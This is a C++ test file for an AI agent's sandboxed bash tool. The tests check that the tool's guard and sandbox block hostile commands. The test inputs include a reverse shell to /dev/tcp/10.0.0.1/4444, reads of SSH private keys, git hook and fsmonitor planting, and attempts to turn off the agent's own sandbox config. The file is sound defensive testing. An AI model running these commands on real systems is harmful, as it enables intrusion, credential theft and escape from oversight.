#include "tools/bash_tool.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <random>

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "base/subprocess.h"
#include "base/testing/wait_until.h"
#include "tools/bash_output.h"
#include "tools/testing/outside_dir.h"
#include "tools/testing/scoped_env.h"
#include "tools/testing/temp_tree.h"
#include "tools/testing/unix_listener.h"

namespace mecha::tools {
namespace {

using testing::OutsideDir;
using testing::ScopedEnv;
using testing::TempTree;

BashTool make_tool(const TempTree& t, bool sandbox, bool network = false,
                   size_t max_chars = 30000) {
  auto g = guard::CommandGuard::create(guard::default_policy(t.root().string(), "/home/nobody"));
  EXPECT_TRUE(g.ok()) << g.message();
  BashSettings s;
  s.sandbox = sandbox;
  s.network = network;
  s.max_output_chars = max_chars;
  return BashTool(std::move(*g), s);
}

ToolOutput run(BashTool& tool, TempTree& t, const std::string& command,
               std::optional<int> timeout_ms = {}) {
  Json in = {{"command", command}};
  if (timeout_ms) in["timeout"] = *timeout_ms;
  return tool.call(in, t.ctx());
}

// Whether any process on the machine has exactly this command line.
bool process_exists(const std::string& cmdline_with_nuls) {
  for (const auto& e : std::filesystem::directory_iterator("/proc")) {
    std::ifstream in(e.path() / "cmdline", std::ios::binary);
    std::string c((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    if (c == cmdline_with_nuls) return true;
  }
  return false;
}

bool gone_within(const std::string& cmdline, std::chrono::seconds limit) {
  return mecha::testing::wait_until([&] { return !process_exists(cmdline); }, limit,
                                    std::chrono::milliseconds(50));
}

std::string unique_sleep_seconds() {
  std::random_device rd;
  return fmt::format("1000.{}", rd() % 1000000 + 1000000);
}

// Sandbox tests need bubblewrap to work on this machine; elsewhere they are skipped.
#define SKIP_WITHOUT_SANDBOX()                                                \
  do {                                                                        \
    if (Status s = sandbox_available(); !s.ok()) GTEST_SKIP() << s.message(); \
  } while (0)

class BashToolTest : public ::testing::TestWithParam<bool> {  // sandboxed or not
 protected:
  void SetUp() override {
    if (GetParam()) SKIP_WITHOUT_SANDBOX();
  }
};

TEST_P(BashToolTest, RunsInTheWorkTreeAndReportsTheExitCode) {
  TempTree t;
  BashTool tool = make_tool(t, GetParam());
  ToolOutput out = run(tool, t, "echo hi; pwd; echo err >&2; exit 3");
  EXPECT_FALSE(out.is_error);
  EXPECT_EQ(out.content, "hi\n" + t.root().string() + "\nerr\nExit code: 3");
  EXPECT_EQ(run(tool, t, "true").content, "Exit code: 0");
}

TEST_P(BashToolTest, TimeoutKillsEveryProcessAndReports124) {
  TempTree t;
  BashTool tool = make_tool(t, GetParam());
  std::string arg = unique_sleep_seconds();
  ToolOutput out = run(tool, t, "sleep " + arg + " & echo started; sleep 30", 1000);
  EXPECT_TRUE(out.is_error);
  EXPECT_EQ(out.content,
            "started\nExit code: 124\nThe command timed out after 1 s and was killed, with every "
            "process it "
            "started. Run something quicker, or give a longer timeout (at most 600 s).");
  EXPECT_TRUE(gone_within(std::string("sleep\0", 6) + arg + std::string("\0", 1),
                          std::chrono::seconds(10)));
  // The run goes on: the next call works.
  EXPECT_EQ(run(tool, t, "echo again").content, "again\nExit code: 0");
}

TEST_P(BashToolTest, LongOutputKeepsHeadAndTail) {
  TempTree t;
  BashTool tool = make_tool(t, GetParam(), false, 100);
  ToolOutput out = run(tool, t, "seq 1 10000");
  // 48,894 bytes; the first 50 and the last 50 characters are kept.
  EXPECT_EQ(out.content.substr(0, 20), "1\n2\n3\n4\n5\n6\n7\n8\n9\n10");
  EXPECT_NE(out.content.find("\n[... 48794 bytes of output cut here; the first 50 and last 50 "
                             "characters are kept ...]\n"),
            std::string::npos)
      << out.content;
  EXPECT_EQ(out.content.substr(out.content.size() - 28), "9998\n9999\n10000\nExit code: 0");
}

TEST_P(BashToolTest, RefusalIsCountedAndNamesTheRule) {
  TempTree t;
  BashTool tool = make_tool(t, GetParam());
  ToolOutput first = run(tool, t, "echo x > /etc/passwd");
  ToolOutput second = run(tool, t, "sudo ls");
  EXPECT_TRUE(first.is_error);
  EXPECT_EQ(first.refusal_rule, "write-outside-tree");
  EXPECT_EQ(second.refusal_rule, "privilege-escalation");
  EXPECT_EQ(t.ctx().refusals, 2);
  EXPECT_NE(first.content.find("The work tree is " + t.root().string()), std::string::npos)
      << first.content;
  EXPECT_NE(second.content.find("Refusals so far in this run: 2."), std::string::npos)
      << second.content;
}

INSTANTIATE_TEST_SUITE_P(SandboxOnAndOff, BashToolTest, ::testing::Values(true, false),
                         [](const auto& info) { return info.param ? "Sandboxed" : "Unsandboxed"; });

TEST(BashSandbox, RefusesAWriteOutsideTheTreeThatTheGuardCannotSee) {
  SKIP_WITHOUT_SANDBOX();
  TempTree t;
  BashTool tool = make_tool(t, true);
  // Outside the tree and outside /tmp (the sandbox's /tmp is private, so a path there does
  // not exist inside it).
  std::string outside = testing::outside_path().string() + ".txt";
  t.write("target.txt", outside);
  ToolOutput out = run(tool, t, "p=$(cat target.txt); echo x > \"$p\"");
  EXPECT_FALSE(std::filesystem::exists(outside));
  std::filesystem::remove(outside);  // should the sandbox have failed
  EXPECT_NE(out.content.find("Read-only file system"), std::string::npos) << out.content;
  EXPECT_NE(out.content.find("Exit code: 1"), std::string::npos) << out.content;
  // Inside the tree and in /tmp, writes work.
  EXPECT_EQ(run(tool, t, "echo y > inside.txt && echo z > /tmp/t && cat /tmp/t").content,
            "z\nExit code: 0");
  EXPECT_EQ(t.read("inside.txt"), "y\n");
}

TEST(BashSandbox, HasNoNetworkUnlessTheConfigAllowsIt) {
  SKIP_WITHOUT_SANDBOX();
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  ASSERT_GE(fd, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  ASSERT_EQ(::listen(fd, 16), 0);
  socklen_t len = sizeof addr;
  ASSERT_EQ(::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len), 0);
  int port = ntohs(addr.sin_port);

  TempTree t;
  t.write("target.txt", fmt::format("/dev/tcp/127.0.0.1/{}", port));
  const std::string connect = "t=$(cat target.txt); : < \"$t\" && echo connected";
  BashTool closed = make_tool(t, true, /*network=*/false);
  ToolOutput out = run(closed, t, connect);
  EXPECT_EQ(out.content.find("connected"), std::string::npos) << out.content;
  EXPECT_NE(out.content.find("Exit code: 1"), std::string::npos) << out.content;

  BashTool open = make_tool(t, true, /*network=*/true);
  EXPECT_EQ(run(open, t, connect).content, "connected\nExit code: 0");
  ::close(fd);
}

TEST(BashSandbox, HidesSecretLocations) {
  SKIP_WITHOUT_SANDBOX();
  TempTree t;
  std::filesystem::create_directories(t.base() / "home/.ssh");
  std::ofstream(t.base() / "home/.ssh/id_rsa") << "PRIVATE";
  auto policy = guard::default_policy(t.root().string(), (t.base() / "home").string());
  BashSettings s;
  BashTool tool(std::move(*guard::CommandGuard::create(policy)), s);
  t.write("target.txt", (t.base() / "home/.ssh/id_rsa").string());
  ToolOutput out = run(tool, t, "cat \"$(cat target.txt)\"");
  EXPECT_EQ(out.content.find("PRIVATE"), std::string::npos) << out.content;
}

// A tree that holds the home (mecha started in ~, or above it): the home cannot be hidden,
// but what it keeps that is secret or that mecha trusts is, on top of the tree. A command
// there can neither read a key nor rewrite the config the next run reads.
TEST(BashSandbox, ATreeThatHoldsTheHomeStillHidesItsSecretsAndMechasOwnFiles) {
  SKIP_WITHOUT_SANDBOX();
  TempTree t;
  const auto home = t.root() / "home";
  std::filesystem::create_directories(home / ".ssh");
  std::filesystem::create_directories(home / ".config/mecha");
  std::filesystem::create_directories(home / ".local/state/mecha");
  std::filesystem::create_directories(home / ".claude");
  std::ofstream(home / ".ssh/id_rsa") << "PRIVATE";
  std::ofstream(home / ".config/mecha/config.toml") << "[sandbox]\nmode = \"bwrap\"\n";
  std::ofstream(home / ".local/state/mecha/sessions.db") << "SESSIONS";
  std::ofstream(home / ".claude/settings.json") << "{}";
  std::ofstream(home / "notes.txt") << "plain";
  ScopedEnv h("HOME", home.string());
  ScopedEnv c("XDG_CONFIG_HOME", (home / ".config").string());
  ScopedEnv st("XDG_STATE_HOME", (home / ".local/state").string());
  auto policy = guard::default_policy(t.root().string(), home.string());
  BashTool tool(std::move(*guard::CommandGuard::create(policy)), BashSettings{});
  // Paths the guard cannot read in the line: only the sandbox stands in the way.
  t.write("where", home.string());
  ToolOutput r = run(tool, t,
                     "h=$(cat where); cat \"$h/.ssh/id_rsa\" 2>/dev/null; "
                     "cat \"$h/.local/state/mecha/sessions.db\" 2>/dev/null; "
                     "echo 'mode = \"off\"' >> \"$h/.config/mecha/config.toml\"; "
                     "echo '{\"hooks\":{}}' > \"$h/.claude/settings.json\"; cat \"$h/notes.txt\"");
  EXPECT_EQ(r.content.find("PRIVATE"), std::string::npos) << r.content;
  EXPECT_EQ(r.content.find("SESSIONS"), std::string::npos) << r.content;
  EXPECT_NE(r.content.find("plain"), std::string::npos) << r.content;
  auto text = [](const std::filesystem::path& p) {
    std::ifstream in(p);
    return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  };
  EXPECT_EQ(text(home / ".config/mecha/config.toml"), "[sandbox]\nmode = \"bwrap\"\n");
  EXPECT_EQ(text(home / ".claude/settings.json"), "{}");
}

TEST(BashSandbox, HidesTheHomeTheRuntimeFolderAndItsSockets) {
  SKIP_WITHOUT_SANDBOX();
  OutsideDir out;
  const auto home = out.path() / "home";
  std::filesystem::create_directories(home / ".local/state/mecha");
  std::ofstream(home / ".local/state/mecha/sessions.db") << "SESSIONS";
  std::ofstream(out.path() / "beside-home.txt") << "readable";
  const auto runtime = out.path() / "runtime";
  std::filesystem::create_directories(runtime);
  const std::string socket_path = (runtime / "mecha.sock").string();
  int fd = testing::listen_unix(socket_path);
  ASSERT_GE(fd, 0);
  ScopedEnv env("XDG_RUNTIME_DIR", runtime.string());

  TempTree t;
  auto policy = guard::default_policy(t.root().string(), home.string());
  BashTool tool(std::move(*guard::CommandGuard::create(policy)), BashSettings{});
  t.write("where", out.path().string());
  t.write("probe.py", R"py(import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1]); print('connected')
except OSError as e:
    print('refused:', e.strerror)
)py");
  ToolOutput r =
      run(tool, t,
          "d=$(cat where); ls -A \"$d/home\" | wc -l; "
          "cat \"$d/home/.local/state/mecha/sessions.db\" 2>&1 | sed 's/.*: //'; "
          "cat \"$d/beside-home.txt\"; echo; python3 probe.py \"$d/runtime/mecha.sock\"");
  EXPECT_EQ(r.content,
            "0\nNo such file or directory\nreadable\nrefused: No such file or directory\n"
            "Exit code: 0");
  // Outside the sandbox the socket answers: the probe can tell.
  auto host = run_subprocess(
      {.argv = {"python3", (t.root() / "probe.py").string(), socket_path}, .merge_stderr = true});
  ASSERT_TRUE(host.ok());
  EXPECT_EQ(host->out.text(), "connected\n");
  ::close(fd);
}

TEST(BashSandbox, RemovesWhatACommandPlantsInProtectedPlaces) {
  SKIP_WITHOUT_SANDBOX();
  TempTree t;
  BashTool tool = make_tool(t, true);
  const std::string git = "git -c user.name=t -c user.email=t@example.com ";
  auto init = run_subprocess(
      {.argv = {"/bin/bash", "-c", "git init -q . && rm -rf .git/hooks"}, .cwd = t.root()});
  ASSERT_TRUE(init.ok() && init->exit_code == 0);
  const auto marker = t.base() / "PWNED";
  // git reads .git/commondir in any repository: a planted one moves its config and hooks
  // to a folder the command controls. The guard cannot read the script.
  t.write("plant.sh", fmt::format(R"sh(mkdir -p evil/hooks && cp -r .git/objects .git/refs evil/
printf '[core]\n\tfsmonitor = "touch {0}; false"\n' > evil/config
echo ../evil > .git/commondir
mkdir -p .git/hooks && printf '#!/bin/sh\ntouch {0}\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
echo '{{"mcpServers": {{}}}}' > .mcp.json
echo planted
)sh",
                                  marker.string()));
  ToolOutput r = run(tool, t, "bash plant.sh");
  EXPECT_EQ(r.content,
            "planted\nExit code: 0\nThe sandbox removed what the command created in protected "
            "places: .git/commondir, .git/hooks, .mcp.json. They configure programs that run "
            "code on the host (git, editors, shells, mecha); commands may not write them.");
  auto host =
      run_subprocess({.argv = {"/bin/bash", "-c",
                               "git status --short && " + git +
                                   "commit -q --allow-empty -m host && git log --format=%s"},
                      .cwd = t.root(),
                      .merge_stderr = true});
  ASSERT_TRUE(host.ok());
  EXPECT_EQ(host->out.text(), "?? evil/\n?? plant.sh\nhost\n");
  EXPECT_FALSE(std::filesystem::exists(marker));
}

TEST(BashSandbox, ARepositoryTheCommandCreatesKeepsNoConfigNorHooks) {
  SKIP_WITHOUT_SANDBOX();
  TempTree t;  // no .git: the command makes the repository, and plants in it
  BashTool tool = make_tool(t, true);
  const auto marker = t.base() / "PWNED";
  t.write("init.sh", fmt::format(R"sh(git init -q . && echo x > f && git add f
git -c user.name=t -c user.email=t@example.com commit -qm inside
git config core.fsmonitor "touch {0}; false"
printf '#!/bin/sh
touch {0}
' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
git log --format=%s
)sh",
                                 marker.string()));
  ToolOutput r = run(tool, t, "bash init.sh");
  EXPECT_EQ(r.content,
            "inside\nExit code: 0\nThe sandbox removed what the command created in protected "
            "places: .git/branches, .git/config, .git/description, .git/hooks, .git/info. They "
            "configure "
            "programs that run code on the host (git, editors, shells, mecha); commands may not "
            "write them.");
  auto host = run_subprocess({.argv = {"/bin/bash", "-c",
                                       "git status --short && git -c user.name=t -c "
                                       "user.email=t@example.com commit -q --allow-empty -m host "
                                       "&& git log --format=%s"},
                              .cwd = t.root(),
                              .merge_stderr = true});
  ASSERT_TRUE(host.ok());
  EXPECT_EQ(host->out.text(), "?? init.sh\nhost\ninside\n");
  EXPECT_FALSE(std::filesystem::exists(marker));
}

TEST(CapOutput, KeepsShortOutputWholeAndMakesItValid) {
  EXPECT_EQ(cap_output("abc", "", 0, 10), "abc");
  EXPECT_EQ(cap_output("a\xff"
                       "b",
                       "", 0, 10),
            "a\xEF\xBF\xBD"
            "b");
  EXPECT_EQ(cap_output("0123456789abcdef", "", 0, 10),
            "01234\n[... 6 bytes of output cut here; the first 5 and last 5 characters are kept "
            "...]\nbcdef");
  EXPECT_EQ(
      cap_output("héllo wörld", "", 0, 4),
      "hé\n[... 8 bytes of output cut here; the first 2 and last 2 characters are kept ...]\nld");
  EXPECT_EQ(cap_output("head", "tail", 1000, 100),
            "head\n[... 1000 bytes of output cut here; the first 50 and last 50 characters are "
            "kept ...]\ntail");
}

TEST(BashTool, WithoutBubblewrapEveryCallIsRefusedInOneLine) {
  if (sandbox_available().ok()) GTEST_SKIP() << "bubblewrap works here";
  TempTree t;
  BashTool tool = make_tool(t, true);
  ToolOutput out = run(tool, t, "echo hi");
  EXPECT_TRUE(out.is_error);
  EXPECT_EQ(out.content.find('\n'), std::string::npos) << out.content;
}

// From config.toml's text through the config reader to the tool: [bash] sets the timeouts
// the model is told, [sandbox] the network, [guard] the rules it is screened by.
TEST(BashTool, TheConfigAsReadReachesTheGuardAndTheSettings) {
  auto config = config::parse_config(R"(
[bash]
default_timeout_s = 5
max_timeout_s = 60
max_output_chars = 2000
[sandbox]
network = true
max_processes = 64
[guard]
disable_rules = ["killall"]
[[guard.rules]]
name = "no-npm-publish"
command = "npm"
args = ["publish"]
reason = "publishes a package"
match = ["npm publish"]
)",
                                     "c.toml");
  ASSERT_TRUE(config.ok()) << config.message();
  auto tool = BashTool::create(*config);
  ASSERT_TRUE(tool.ok()) << tool.message();
  BashSettings want;
  want.default_timeout = std::chrono::seconds(5);
  want.max_timeout = std::chrono::seconds(60);
  want.max_output_chars = 2000;
  want.network = true;
  want.max_processes = 64;
  EXPECT_EQ((*tool)->settings(), want);
  EXPECT_NE((*tool)->description().find("(default 5000, at most 60000)"), std::string::npos)
      << (*tool)->description();

  TempTree t;
  ToolOutput refused = run(**tool, t, "npm publish");
  EXPECT_EQ(refused.refusal_rule, "no-npm-publish");
  EXPECT_NE(refused.content.find("rule 'no-npm-publish': `npm publish` publishes a package"),
            std::string::npos)
      << refused.content;
  // A default rule the config disabled no longer refuses; one it did not still does.
  EXPECT_EQ(run(**tool, t, "killall no-such-process-name").refusal_rule, std::nullopt);
  EXPECT_EQ(run(**tool, t, "sudo true").refusal_rule, "privilege-escalation");
}

// What a command can reach decides the labels: the network, given by the config or by
// running without the sandbox, both reads the world and sends to it.
TEST(BashTool, IsLabelledASendAndUntrustedWhenCommandsCanReachTheNetwork) {
  const Capabilities both{.untrusted_input = true, .external_send = true};
  for (const auto& [toml, want] :
       std::vector<std::pair<std::string, Capabilities>>{{"", Capabilities{}},
                                                         {"[sandbox]\nnetwork = true\n", both},
                                                         {"[sandbox]\nmode = \"off\"\n", both}}) {
    auto config = config::parse_config(toml, "c.toml");
    ASSERT_TRUE(config.ok()) << config.message();
    auto tool = BashTool::create(*config);
    ASSERT_TRUE(tool.ok()) << tool.message();
    EXPECT_EQ((*tool)->capabilities(), want) << toml;
  }
}

// The default guard is built on a thread of its own as the run starts (the first call waits
// for it); it is the same guard, told the sandbox's network setting.
TEST(BashTool, TheDefaultGuardBuiltAsTheRunStartsScreensTheFirstCall) {
  for (const auto& [toml, network_rule] : std::vector<std::pair<std::string, std::string>>{
           {"", "no-network"}, {"[sandbox]\nnetwork = true\n", "network-redirect"}}) {
    auto config = config::parse_config(toml, "c.toml");
    ASSERT_TRUE(config.ok()) << config.message();
    auto tool = BashTool::create(*config);
    ASSERT_TRUE(tool.ok()) << tool.message();
    TempTree t;
    EXPECT_EQ(run(**tool, t, "sudo true").refusal_rule, "privilege-escalation") << toml;
    EXPECT_EQ(run(**tool, t, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").refusal_rule, network_rule)
        << toml;
  }
}

TEST(BashTool, ARuleWhosePatternDoesNotCompileFailsTheToolNamingFileAndLine) {
  auto config = config::parse_config(
      "[[guard.rules]]\nname = \"x\"\ncommand = \"(\"\nreason = \"r\"\nmatch = [\"a\"]\n",
      "c.toml");
  ASSERT_TRUE(config.ok()) << config.message();
  auto tool = BashTool::create(*config);
  ASSERT_FALSE(tool.ok());
  EXPECT_EQ(tool.message(), "c.toml:1: guard rule 'x': bad pattern '(': missing ): (");
}

// The persistent shell (persistent_shell.h) as the model sees it, with the sandbox and without.
class BashShellTest : public BashToolTest {};

TEST_P(BashShellTest, TheDirectoryPersistsAndIsResetWhenItLeavesTheTree) {
  TempTree t;
  std::filesystem::create_directories(t.root() / "sub/deeper");
  BashTool tool = make_tool(t, GetParam());
  EXPECT_EQ(run(tool, t, "cd sub").content, "Exit code: 0");
  EXPECT_EQ(run(tool, t, "cd deeper && pwd").content,
            (t.root() / "sub/deeper").string() + "\nExit code: 0");
  EXPECT_EQ(run(tool, t, "pwd").content, (t.root() / "sub/deeper").string() + "\nExit code: 0");
  // Leaving the tree, or removing the folder the shell is in, sends it back to the tree.
  EXPECT_EQ(run(tool, t, "cd /").content,
            "Exit code: 0\nShell cwd was reset to " + t.root().string());
  EXPECT_EQ(run(tool, t, "pwd").content, t.root().string() + "\nExit code: 0");
  EXPECT_EQ(run(tool, t, "cd sub").content, "Exit code: 0");
  std::filesystem::remove_all(t.root() / "sub");
  EXPECT_EQ(run(tool, t, "pwd").content,
            t.root().string() + "\nExit code: 0\nShell cwd was reset to " + t.root().string());
}

// The guard resolves a command's relative paths from the shell's directory, as bash does:
// from .git, `hooks/pre-commit` is the protected .git/hooks/pre-commit (from the tree it
// would be an ordinary hooks/ folder, and without the sandbox the hook would be written).
TEST_P(BashShellTest, TheGuardScreensFromTheShellsDirectory) {
  TempTree t;
  std::filesystem::create_directories(t.root() / ".git/hooks");
  BashTool tool = make_tool(t, GetParam());
  EXPECT_EQ(run(tool, t, "cd .git").content, "Exit code: 0");
  ToolOutput out = run(tool, t, "echo x > hooks/pre-commit");
  EXPECT_TRUE(out.is_error);
  EXPECT_NE(out.content.find("protected-path"), std::string::npos) << out.content;
  EXPECT_FALSE(std::filesystem::exists(t.root() / ".git/hooks/pre-commit"));
  EXPECT_FALSE(std::filesystem::exists(t.root() / "hooks"));
  // Back in the tree, the same words name an ordinary folder.
  EXPECT_EQ(run(tool, t, "cd ..").content, "Exit code: 0");
  EXPECT_EQ(run(tool, t, "mkdir hooks && echo x > hooks/pre-commit").content, "Exit code: 0");
  EXPECT_TRUE(std::filesystem::exists(t.root() / "hooks/pre-commit"));
}

TEST_P(BashShellTest, AKilledShellIsReportedAndTheNextCallSaysItRestarted) {
  TempTree t;
  BashTool tool = make_tool(t, GetParam());
  EXPECT_EQ(run(tool, t, "echo kept > /tmp/mecha-shell-test; echo ok").content, "ok\nExit code: 0");
  ToolOutput killed = run(tool, t, "kill -9 $PPID");
  EXPECT_TRUE(killed.is_error);
  EXPECT_EQ(killed.content,
            "The shell ended before the command did (its driver was killed); every process of "
            "the command was killed. The next command starts a new shell.");
  ToolOutput next = run(tool, t, "echo again");
  EXPECT_EQ(next.content,
            "again\nExit code: 0\nThe shell was restarted: files the earlier commands left in "
            "/tmp are gone.");
  ::unlink("/tmp/mecha-shell-test");  // without the sandbox it was the host's /tmp
}

TEST_P(BashShellTest, TheEnvironmentDoesNotPersistButTmpDoes) {
  TempTree t;
  BashTool tool = make_tool(t, GetParam());
  const std::string file = fmt::format("/tmp/mecha-shell-{}", unique_sleep_seconds());
  EXPECT_EQ(run(tool, t, "export MECHA_Y=1; echo x > " + file).content, "Exit code: 0");
  EXPECT_EQ(run(tool, t, "echo ${MECHA_Y-unset}; cat " + file).content, "unset\nx\nExit code: 0");
  ::unlink(file.c_str());
}

TEST_P(BashShellTest, TheCommandSeesOnlyTheListedEnvironmentAndItsShell) {
  TempTree t;
  ScopedEnv key("MECHA_TEST_API_KEY", "sk-not-for-commands");
  ScopedEnv lang("LANG", "C.UTF-8");
  BashTool tool = make_tool(t, GetParam());
  // Less what the host may or may not have set of the default pass_env, and bash's own.
  EXPECT_EQ(run(tool, t,
                "env | cut -d= -f1 | grep -vxE 'HOME|TERM|TZ|USER|LOGNAME|LC_ALL|LC_CTYPE|"
                "PWD|OLDPWD|SHLVL|_' | sort | tr '\\n' ' '")
                .content,
            "GIT_PAGER LANG PAGER PATH SHELL \nExit code: 0");
  EXPECT_EQ(run(tool, t, "printenv SHELL; echo \"$SHELL\"").content,
            "/bin/bash\n/bin/bash\nExit code: 0");
}

INSTANTIATE_TEST_SUITE_P(SandboxOnAndOff, BashShellTest, ::testing::Values(true, false),
                         [](const auto& info) { return info.param ? "Sandboxed" : "Unsandboxed"; });

}  // namespace
}  // namespace mecha::tools
